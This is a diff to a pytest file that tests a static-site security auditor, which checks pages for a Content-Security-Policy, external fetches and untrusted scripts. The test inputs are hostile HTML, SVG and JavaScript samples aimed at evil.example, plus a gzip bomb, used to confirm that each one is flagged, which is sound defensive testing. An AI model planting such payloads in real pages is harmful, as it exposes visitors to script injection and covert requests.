@@ -9,9 +9,12 @@ from pathlib import Path
 import pytest
 
 from roadmap import audit
+from roadmap.audit_policy import POLICY
 
 SITE_URL = "https://alianza-pacifico-mipymes.github.io/hoja-de-ruta/"
-PAGE = "<!doctype html><html><head>{head}</head><body>{body}</body></html>"
+CSP = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
+# a page as the templates write it: the site's policy first in <head>
+PAGE = "<!doctype html><html><head><meta charset=utf-8>" + CSP + "{head}</head><body>{body}</body></html>"
 
 
 def findings(tmp_path: Path, files: dict[str, str]) -> list[str]:
@@ -115,7 +118,8 @@ def test_relative_urls_resolve_against_the_page_on_the_site(tmp_path: Path) -> N
     '<a href="https://example.org/elsewhere">a link to another site is fine</a>',
     '<a href="mailto:x@example.org">mail</a> <a href="../objetivos/">relative</a> <a href="#top">anchor</a>',
     '<img src="../assets/logo.svg" alt=""> <img src="https://alianza-pacifico-mipymes.github.io/hoja-de-ruta/x.png" alt="">',
-    '<link rel="alternate" href="https://other.example/feed.xml"> <link rel="canonical" href="https://x.example/">',
+    # a link to another host that no script follows (an alternate to another host is a fetch: Material's)
+    '<link rel="canonical" href="https://x.example/"> <link rel="alternate" href="../en/">',
     '<p>javascript: written as text, onclick= as text</p>',
 ])
 def test_safe_html_passes(tmp_path: Path, body: str) -> None:
@@ -210,6 +214,29 @@ def test_a_cached_audit_reads_only_changed_files_and_finds_the_same(tmp_path: Pa
     assert sorted(read) == sorted(files)
 
 
+def test_a_cached_page_is_read_again_when_a_script_it_loads_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A page's <script src> is judged by the file it loads (the theme's, byte for byte): a page
+    audited before is read again when a script file of the site changes, and the script too."""
+    import shutil
+
+    from roadmap.audit_policy import _digest, material_templates
+
+    monkeypatch.setenv("ROADMAP_CACHE_DIR", str(tmp_path / "cache"))
+    theme = material_templates()
+    assert theme is not None
+    bundle = next((theme / "assets" / "javascripts").glob("bundle.*.min.js")).relative_to(theme).as_posix()
+    site = tmp_path / "site"
+    (site / bundle).parent.mkdir(parents=True)
+    shutil.copyfile(theme / bundle, site / bundle)
+    (site / "index.html").write_text(PAGE.format(head=f'<script src="{bundle}"></script>', body="x"), encoding="utf-8")
+    assert audit.audit(site, SITE_URL, workers=1, cache=True) == []
+    assert audit.audit(site, SITE_URL, workers=1, cache=True) == []  # from the verdicts
+    (site / bundle).write_bytes((theme / bundle).read_bytes() + b"\nfetch('https://evil.example/')")
+    _digest.cache_clear()  # a new build is a new process: the files' digests are read again
+    found = {f.file for f in audit.audit(site, SITE_URL, workers=1, cache=True)}
+    assert found == {"index.html", bundle} == {f.file for f in audit.audit(site, SITE_URL, workers=1)}
+
+
 # The second hostile review: each input made Chromium 156 fetch from evil.example or run script
 # while the audit reported nothing.
 @pytest.mark.parametrize("body,found", [
@@ -264,3 +291,112 @@ def test_a_page_in_utf16_is_read_as_the_browser_reads_it(tmp_path: Path) -> None
 def test_every_document_a_browser_would_render_is_audited(tmp_path: Path, name: str, content: str, found: str) -> None:
     result = findings(tmp_path, {name: content})
     assert len(result) == 1 and result[0].startswith(f"{name}: {found}"), result
+
+
+# Issue #18: what a pull request's pages and assets could still make a browser fetch or run.
+@pytest.mark.parametrize("body,found", [
+    # a background attribute loads an image on every table part, not only <table> and <td>
+    *[(f'<table><{part} background="//evil.example/{part}.png"><tr><td>x</td></tr></{part}></table>',
+       f"resource from another host in <{part} background>") for part in ("tbody", "thead", "tfoot")],
+    ('<table><tr background="//evil.example/tr.png"><td>x</td></tr></table>', "resource from another host in <tr background>"),
+    ('<table><tr><th background="//evil.example/th.png">x</th></tr></table>', "resource from another host in <th background>"),
+    # a declarative shadow root's content is parsed in a template's context, where a <td> is a <td>
+    ('<div><template shadowrootmode="open"><td background="//evil.example/s.png">x</td></template></div>',
+     "in <template>: resource from another host in <td background>"),
+    ('<div><template shadowrootmode="open"><template><img src="//evil.example/n.png" alt=""></template></template></div>',
+     "in <template>: in <template>: resource from another host in <img src>"),
+    # scripts: inline ones (whatever their type but JSON data), and in a srcdoc document
+    ("<script>fetch('//evil.example/')</script>", "inline <script>"),
+    ('<script type="module">import("//evil.example/m.js")</script>', "inline <script>"),
+    ('<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["https://evil.example/"]}]}</script>',
+     "inline <script>"),
+    ('<script type="importmap">{"imports": {"x": "https://evil.example/x.js"}}</script>', "inline <script>"),
+    ('<svg><script>alert(1)</script></svg>', "inline <script>"),
+    ('<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>', "in <iframe srcdoc>: inline <script>"),
+    # a script of the site's own host that is not one of the site's scripts
+    ('<script src="../assets/evil.js"></script>', "<script> loading a file that is not one of the site's scripts"),
+    ('<script src="/hoja-de-ruta/assets/images/logo.png"></script>', "<script> loading a file that is not one of the site's scripts"),
+    # markup the theme's own script turns into a request to another host
+    ('<pre class="mermaid">graph TD; A-->B</pre>', '<pre class="mermaid">: the theme would load mermaid from unpkg.com'),
+    ('<a href="https://github.com/x/y" data-md-component="source">repo</a>', 'data-md-component="source"'),
+    ('<link rel="alternate" href="https://other.example/feed.xml">', "<link rel=alternate> to another host"),
+], ids=lambda v: v[:40] if isinstance(v, str) else v)
+def test_issue_18_markup_is_found(tmp_path: Path, body: str, found: str) -> None:
+    result = findings(tmp_path, {"en/page/index.html": PAGE.format(head="", body=body)})
+    assert len(result) == 1 and result[0].startswith("en/page/index.html: " + found), result
+
+
+def test_json_data_blocks_and_the_sites_scripts_are_fine(tmp_path: Path) -> None:
+    body = ('<script type="application/json" id="__config">{"a": 1}</script>'
+            '<script type="application/ld+json">{"@context": "https://schema.org"}</script>'
+            '<script src="../../assets/reader/theme.js" data-run="base"></script>'
+            '<script src="../../assets/javascripts/explorer.js"></script>')
+    files = {"en/page/index.html": PAGE.format(head="", body=body), "assets/reader/theme.js": "",
+             "assets/javascripts/explorer.js": "", "pagefind/es/pagefind.js": "", "pagefind/en/pagefind-worker.js": ""}
+    assert findings(tmp_path, files) == []
+
+
+@pytest.mark.parametrize("page,found", [
+    ("<!doctype html><html><head></head><body>x</body></html>", "no Content-Security-Policy <meta http-equiv> in <head>"),
+    ("<!doctype html><html><head><script src='../assets/reader/theme.js'></script>" + CSP + "</head><body></body></html>",
+     "<script> before the Content-Security-Policy <meta>"),
+    ("<!doctype html><html><head><link rel=stylesheet href='a.css'>" + CSP + "</head><body></body></html>",
+     "<link> before the Content-Security-Policy <meta>"),
+    ("<!doctype html><html><head><meta http-equiv=Content-Security-Policy content=\"default-src *\"></head><body></body></html>",
+     "Content-Security-Policy differs from the site's"),
+    ("<!doctype html><html><head></head><body>" + CSP + "</body></html>", "Content-Security-Policy <meta> outside <head>"),
+], ids=["missing", "script first", "style sheet first", "weaker", "in body"])
+def test_every_page_carries_the_policy_first(tmp_path: Path, page: str, found: str) -> None:
+    result = findings(tmp_path, {"p/index.html": page})
+    assert len(result) == 1 and result[0].startswith("p/index.html: " + found), result
+
+
+def test_the_policy_is_what_the_issue_asks(tmp_path: Path) -> None:
+    directives = dict(part.strip().split(" ", 1) for part in POLICY.split(";"))
+    assert directives["default-src"] == "'self'" and directives["object-src"] == "'none'"
+    assert directives["img-src"] == "'self' data:" and directives["form-action"] == "'self'"
+    assert directives["base-uri"] in ("'self'", "'none'")
+    assert not any("unsafe-inline" in value or "unsafe-eval" in value or "*" in value or "http" in value
+                   for value in directives.values())
+
+
+@pytest.mark.parametrize("name,content,found", [
+    ("assets/x.js", "alert(1)", "a script file that is not one of the site's scripts"),
+    ("assets/x.mjs", "export {}", "a script file that is not one of the site's scripts"),
+    ("pagefind/es/evil.js", "alert(1)", "a script file that is not one of the site's scripts"),
+    # a file named as one of the theme's scripts, with other bytes, is not the theme's
+    ("assets/javascripts/bundle.a5f9d56c.min.js", "alert(1)", "a script file that is not one of the site's scripts"),
+    ("assets/s.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "<script> in an SVG or XML document"),
+    ("assets/f.svg", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></foreignObject></svg>',
+     "<script> in an SVG or XML document"),
+    ("schema.xsd", '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><img xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/x.png"/></xs:schema>',
+     "resource from another host in <img src>"),
+    ("grammar.rng", '<grammar xmlns="http://relaxng.org/ns/structure/1.0"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></grammar>',
+     "<script> in an SVG or XML document"),
+    ("raw.html", "<!doctype html><html><head></head><body><img src=x.png alt=''></body></html>", "no Content-Security-Policy"),
+], ids=lambda v: v[:30] if isinstance(v, str) else v)
+def test_script_files_and_more_documents_are_audited(tmp_path: Path, name: str, content: str, found: str) -> None:
+    result = findings(tmp_path, {name: content})
+    assert len(result) == 1 and result[0].startswith(f"{name}: {found}"), result
+
+
+def test_a_compressed_svg_is_audited_unpacked(tmp_path: Path) -> None:
+    import gzip
+    site = tmp_path / "site"
+    (site / "assets").mkdir(parents=True)
+    (site / "assets" / "i.svgz").write_bytes(gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))
+    (site / "assets" / "bomb.svgz").write_bytes(gzip.compress(b" " * (audit.MAX_SVGZ + 10)))
+    (site / "assets" / "plain.svgz").write_bytes(b"<svg/>")
+    assert [str(f) for f in audit.audit(site, SITE_URL)] == [
+        "assets/bomb.svgz: unpacks to more than 10 MB of SVG",
+        "assets/i.svgz: inline event handler onload= on <svg>",
+        "assets/plain.svgz: not a gzip-compressed SVG (Not a gzipped file (b'<s'))"]
+
+
+def test_a_page_past_the_size_budget_is_a_finding(tmp_path: Path) -> None:
+    filler = "<p>" + "x" * 1000 + "</p>"
+    heavy = PAGE.format(head="", body=filler * (audit.MAX_PAGE_BYTES // 1000 + 10))
+    light = PAGE.format(head="", body=filler * (audit.MAX_PAGE_BYTES // 1000 - 100))
+    assert findings(tmp_path, {"heavy/index.html": heavy, "light/index.html": light}) == [
+        "heavy/index.html: the page is 5.0 MB, past the 5 MB a page may weigh (a glossary term with a long definition "
+        "is repeated wherever the term appears)"]
